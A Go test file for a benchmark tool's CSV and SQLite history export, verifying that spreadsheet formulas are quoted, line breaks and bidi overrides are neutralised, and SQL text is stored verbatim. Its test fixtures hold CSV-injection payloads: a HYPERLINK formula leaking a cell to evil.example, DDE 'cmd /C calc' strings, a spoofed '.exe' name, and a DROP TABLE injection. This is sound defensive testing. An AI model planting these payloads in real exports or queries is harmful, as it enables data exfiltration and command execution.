package export

import (
	"bytes"
	"database/sql"
	"encoding/csv"
	"path/filepath"
	"strings"
	"testing"

	"github.com/decodebench/decodebench/history"
)

// hostile is text a record or an engine may hold: formulas, a tab or a
// carriage return before one, a bidirectional override, a line break.
var hostile = []string{
	`=HYPERLINK("https://evil.example/?"&A1,"click")`,
	"+cmd|' /C calc'!A0",
	"-2+3+cmd|' /C calc'!A0",
	"@SUM(1+1)*cmd|' /C calc'!A0",
	"\t=1+1",
	"\r=1+1",
	"  =1+1",
	"＝1+1",
	"b1\u202egnp.exe",
	"line\nbreak",
}

// Every text cell a spreadsheet would evaluate gets a single quote before
// it, the OWASP rule; a number column keeps a negative number numeric;
// nothing breaks a line or reorders the text.
func TestHistoryCSVNeutralisesFormulas(t *testing.T) {
	var rows []history.Row
	for _, h := range hostile {
		rows = append(rows, history.Row{Record: "r", Date: "2026-01-01", Feature: "f", EngineVersion: h, Unit: h, Arm: "a",
			N: 3, Median: -1.5, MedianLo: -2, MedianHi: -1, HasRatio: true, Ratio: 0.5, RatioLo: -0.25, P: 0.01})
	}
	recs, col := historyCSV(t, rows)
	if len(recs) != len(hostile)+1 {
		t.Fatalf("%d lines, want %d: a value broke a line", len(recs), len(hostile)+1)
	}
	for i, rec := range recs[1:] {
		for _, name := range []string{"engine_version", "unit"} {
			cell := rec[col[name]]
			if first := strings.TrimLeft(cell, " "); first != "" && strings.ContainsAny(first[:1], "=+-@\t\r") {
				t.Errorf("%s cell %q of %q would be evaluated", name, cell, hostile[i])
			}
			if strings.HasPrefix(strings.TrimLeft(cell, " "), "＝") {
				t.Errorf("%s cell %q: a full-width = leads", name, cell)
			}
			if strings.ContainsRune(cell, '\u202e') {
				t.Errorf("%s cell %q keeps a bidirectional override", name, cell)
			}
		}
		if got := rec[col["median"]]; got != "-1.5" {
			t.Errorf("median %q, want the number -1.5", got)
		}
		if got := rec[col["ratio_lo"]]; got != "-0.25" {
			t.Errorf("ratio_lo %q, want the number -0.25", got)
		}
	}
	if got := recs[1][col["engine_version"]]; got != `'=HYPERLINK("https://evil.example/?"&A1,"click")` {
		t.Errorf("the formula is %q, want it quoted whole", got)
	}
	// Ordinary text is untouched.
	var plain bytes.Buffer
	if err := HistoryCSV(&plain, []history.Row{{EngineVersion: "version: 6123 (abc)", Unit: "tok/s"}}); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(plain.String(), "version: 6123 (abc)") || !strings.Contains(plain.String(), ",tok/s,") {
		t.Errorf("plain text changed:\n%s", plain.String())
	}
}

// SQLite keeps every value as the record has it, through parameters: a
// value that reads as SQL is stored, never run.
func TestHistorySQLiteStoresTextVerbatim(t *testing.T) {
	inj := "x'); DROP TABLE " + HistoryTable + "; --"
	rows := []history.Row{{Record: "r", EngineVersion: inj, Unit: hostile[0], N: 3, Median: -1.5}}
	path := filepath.Join(t.TempDir(), "h.sqlite")
	if err := HistorySQLite(path, rows); err != nil {
		t.Fatal(err)
	}
	db, err := sql.Open("sqlite", path)
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	var v, u string
	var m float64
	if err := db.QueryRow("SELECT engine_version, unit, median FROM "+HistoryTable).Scan(&v, &u, &m); err != nil {
		t.Fatal(err)
	}
	if v != inj || u != hostile[0] || m != -1.5 {
		t.Errorf("stored %q, %q, %v", v, u, m)
	}
}

// A row of no values (an arm whose source was absent) has no median, in
// CSV (an empty cell) and SQLite (NULL): it was written 0, a median of
// nothing that read as a measured zero.
func TestHistoryMedianOfNothingIsNoValue(t *testing.T) {
	rows := []history.Row{{Record: "r", Metric: "drafted", N: 0}, {Record: "r", Metric: "drafted", N: 2, Median: 0, MedianLo: 0, MedianHi: 0}}
	recs, col := historyCSV(t, rows)
	for _, name := range []string{"median", "median_lo", "median_hi"} {
		if none, zero := recs[1][col[name]], recs[2][col[name]]; none != "" || zero != "0" {
			t.Errorf("%s: %q of no values, %q of values whose median is 0", name, none, zero)
		}
	}
	path := filepath.Join(t.TempDir(), "h.sqlite")
	if err := HistorySQLite(path, rows[:1]); err != nil {
		t.Fatal(err)
	}
	db, err := sql.Open("sqlite", path)
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	var m sql.NullFloat64
	if err := db.QueryRow("SELECT median FROM " + HistoryTable).Scan(&m); err != nil || m.Valid {
		t.Errorf("median %+v (%v), want NULL", m, err)
	}
}

// historyCSV is rows' CSV export read back: its lines, and each column's
// index by name.
func historyCSV(t *testing.T, rows []history.Row) ([][]string, map[string]int) {
	t.Helper()
	var b bytes.Buffer
	if err := HistoryCSV(&b, rows); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	col := map[string]int{}
	for i, n := range recs[0] {
		col[n] = i
	}
	return recs, col
}
